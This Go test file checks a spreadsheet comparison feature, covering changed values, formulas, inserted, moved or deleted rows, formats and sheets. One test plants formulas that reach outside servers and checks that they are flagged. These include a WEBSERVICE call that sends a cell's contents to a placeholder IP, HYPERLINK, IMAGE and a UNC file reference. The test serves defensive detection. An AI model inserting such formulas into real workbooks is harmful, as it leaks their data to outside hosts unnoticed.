package sheet

import (
	"bytes"
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/agnes-data/da/api"
)

// made is a workbook after operations on another one; nil is a new one.
func made(t *testing.T, from []byte, operations string) []byte {
	t.Helper()
	if from == nil {
		var err error
		if from, err = Blank("May"); err != nil {
			t.Fatal(err)
		}
	}
	var ops []Operation
	if err := json.Unmarshal([]byte(operations), &ops); err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	if _, err := Edit(bytes.NewReader(from), int64(len(from)), &out, ops, Options{}); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// compared is what differs, a line for each place, and the warnings.
func compared(t *testing.T, before, after []byte) (string, []string) {
	t.Helper()
	var books [2]*Book
	for i, data := range [][]byte{before, after} {
		if data == nil {
			continue
		}
		var err error
		if books[i], err = Open(bytes.NewReader(data), int64(len(data))); err != nil {
			t.Fatal(err)
		}
	}
	c, err := Compare(books[0], books[1])
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, d := range c.Changes {
		out = append(out, fmt.Sprintf("%s: %s → %s", d.Place, d.Before, d.After))
	}
	return strings.Join(out, "\n"), api.Texts(c.Caveats)
}

func TestWorkbooksAreCompared(t *testing.T) {
	base := made(t, nil, `[{"op":"set_range","sheet":"May","start":"A1","values":[["item","price","qty"],["a",1.5,2],["b",2,3],["c",4,5]]},
		{"op":"set_cells","sheet":"May","cells":[{"cell":"D2","formula":"B2*C2"},{"cell":"D3","formula":"B3*C3"},{"cell":"D4","formula":"SUM(B$2:B4)"}]},
		{"op":"add_sheet","sheet":"Sum"},{"op":"set_cells","sheet":"Sum","cells":[{"cell":"A1","formula":"SUM(May!C2:C4)"}]}]`)
	for name, c := range map[string]struct{ operations, want string }{
		"value":             {`[{"op":"set_cells","sheet":"May","cells":[{"cell":"B2","value":100}]}]`, "May!B2: 1.5 → 100\nMay:  → 2 unchanged formulas have new results"},
		"number as text":    {`[{"op":"set_cells","sheet":"May","cells":[{"cell":"B3","value":"2"}]}]`, "May!B3: 2 (number) → 2 (text)\nMay:  → 1 unchanged formula has a new result"},
		"formula":           {`[{"op":"set_cells","sheet":"May","cells":[{"cell":"D2","formula":"B2*C2*1.19"}]}]`, "May!D2: =B2*C2 → =B2*C2*1.19"},
		"value for formula": {`[{"op":"set_cells","sheet":"May","cells":[{"cell":"D2","value":3}]}]`, "May!D2: =B2*C2 → 3"},
		"row inserted":      {`[{"op":"insert_rows","sheet":"May","after_row":2},{"op":"set_range","sheet":"May","start":"A3","values":[["new",7]]}]`, "May row 3, inserted:  → new | 7\nMay:  → 1 unchanged formula has a new result"},
		"row deleted":       {`[{"op":"delete_rows","sheet":"May","start_row":3}]`, "May row 3, deleted: b | 2 | 3 | =B3*C3 → \nMay:  → 1 unchanged formula has a new result\nSum:  → 1 unchanged formula has a new result"},
		"row moved":         {`[{"op":"delete_rows","sheet":"May","start_row":2},{"op":"set_range","sheet":"May","start":"A4","values":[["a",1.5,2]]},{"op":"set_cells","sheet":"May","cells":[{"cell":"D4","formula":"B4*C4"}]}]`, "May!D3: =SUM(B$2:B4) → =SUM(B$2:B3)\nMay row 4, moved: row 2: a | 1.5 | 2 | =B2*C2 → a | 1.5 | 2 | =B4*C4\nSum!A1: =SUM(May!C2:C4) → =SUM(May!C2:C3)"},
		"format":            {`[{"op":"set_format","sheet":"May","range":"B2:B3","format":{"number_format":"0%","color":"#FFFFFF"}}]`, "format of May!B2 and 1 more up to B3: General, 11 points → 0%, text #FFFFFF, 11 points"},
		"sheet added":       {`[{"op":"add_sheet","sheet":"New"},{"op":"set_range","sheet":"New","values":[["x",1]]}]`, "New:  → new sheet of 1 row\nNew row 1, inserted:  → x | 1"},
		"sheet deleted":     {`[{"op":"delete_sheet","sheet":"Sum"}]`, "Sum: sheet of 1 row → "},
		"table":             {`[{"op":"add_table","sheet":"May","start":"F1","name":"Extra","values":[["k"],[1]]}]`, "May!F1:  → k\nMay!F2:  → 1"},
	} {
		got, _ := compared(t, base, made(t, base, c.operations))
		if name == "table" {
			if !strings.Contains(got, "table Extra:  → May!F1:F2") {
				t.Errorf("%s: the table is missing in\n%s", name, got)
			}
			continue
		}
		if got != c.want {
			t.Errorf("%s:\n%s\nwant\n%s", name, got, c.want)
		}
	}
	if got, warnings := compared(t, base, base); got != "" || len(warnings) > 0 {
		t.Errorf("with itself: %s %v", got, warnings)
	}
	if got, _ := compared(t, nil, base); !strings.HasPrefix(got, "May:  → new sheet of 4 rows\nMay row 1, inserted:  → item | price | qty\nMay row 2, inserted:  → a | 1.5 | 2 | =B2*C2") {
		t.Errorf("a new workbook:\n%s", got)
	}
	if got, _ := compared(t, base, nil); got != "May: sheet of 4 rows → \nSum: sheet of 1 row → " {
		t.Errorf("a workbook that is gone:\n%s", got)
	}
}

// TestOneInsertedRowIsOneChange holds that rows behind an insertion are no
// changes, though each of their formulas has another text.
func TestOneInsertedRowIsOneChange(t *testing.T) {
	var values [][]any
	var formulas []string
	for i := 1; i <= 200; i++ {
		values = append(values, []any{"item", i % 7, i})
		formulas = append(formulas, fmt.Sprintf(`{"cell":"D%d","formula":"B%d*C%d+C$1"}`, i, i, i))
	}
	rows, err := json.Marshal(values)
	if err != nil {
		t.Fatal(err)
	}
	base := made(t, nil, `[{"op":"set_range","sheet":"May","start":"A1","values":`+string(rows)+`},{"op":"set_cells","sheet":"May","cells":[`+strings.Join(formulas, ",")+`,{"cell":"F1","formula":"SUM(D1:D200)"}]}]`)
	after := made(t, base, `[{"op":"insert_rows","sheet":"May","after_row":3},{"op":"set_range","sheet":"May","start":"A4","values":[["new",1,2]]},{"op":"set_cells","sheet":"May","cells":[{"cell":"C150","value":-1}]}]`)
	if got, _ := compared(t, base, after); got != "May row 4, inserted:  → new | 1 | 2\nMay!C150: 149 → -1\nMay:  → 2 unchanged formulas have new results" {
		t.Errorf("%s", got)
	}
}

// TestFormulasThatReachOutAreNamed holds that no change hides them, however many
// there are, and that those that were there before are not told as new.
func TestFormulasThatReachOutAreNamed(t *testing.T) {
	base := made(t, nil, `[{"op":"set_range","sheet":"May","start":"A1","values":[["a",1],["b",2],["c",3]]},{"op":"set_cells","sheet":"May","cells":[{"cell":"C1","formula":"WEBSERVICE(\"http://192.0.2.1/?\"&A1)"}]},{"op":"add_sheet","sheet":"Sum"},{"op":"set_cells","sheet":"Sum","cells":[{"cell":"A1","formula":"May!B1"}]}]`)
	for _, c := range []struct{ operations, want string }{
		{`[{"op":"insert_rows","sheet":"May","after_row":1}]`, ""},
		{`[{"op":"set_cells","sheet":"May","cells":[{"cell":"C2","formula":"HYPERLINK(\"http://192.0.2.1\",\"x\")"},{"cell":"C3","formula":"HYPERLINK(A3)"}]}]`, "May!C2 and 1 other cells have the function HYPERLINK: a program that opens the workbook may send a request to a server"},
		{`[{"op":"set_cells","sheet":"May","cells":[{"cell":"C2","formula":"IMAGE(A1)"}]}]`, "May!C2 has the function IMAGE: a program that opens the workbook may send a request to a server"},
		{`[{"op":"set_cells","sheet":"May","cells":[{"cell":"C2","formula":"'\\\\\\\\192.0.2.1\\\\share\\\\[b.xlsx]S'!A1"}]}]`, "May!C2 has a reference to a file elsewhere: a program that opens the workbook may send a request to a server"},
		{`[{"op":"add_sheet","sheet":"Deep"},{"op":"set_cells","sheet":"Deep","cells":[{"cell":"XFD1048576","formula":"WEBSERVICE(May!B2)"}]}]`, "Deep!XFD1048576 has the function WEBSERVICE: a program that opens the workbook may send a request to a server"},
		{`[{"op":"delete_sheet","sheet":"May"}]`, `1 formula refers, the first in Sum!A1, to the deleted sheet "May"`},
	} {
		_, got := compared(t, base, made(t, base, c.operations))
		got = slices.DeleteFunc(got, func(w string) bool { return strings.HasPrefix(w, "values of formulas") })
		if strings.Join(got, "; ") != c.want {
			t.Errorf("%s: %q, want %q", c.operations, got, c.want)
		}
	}
}
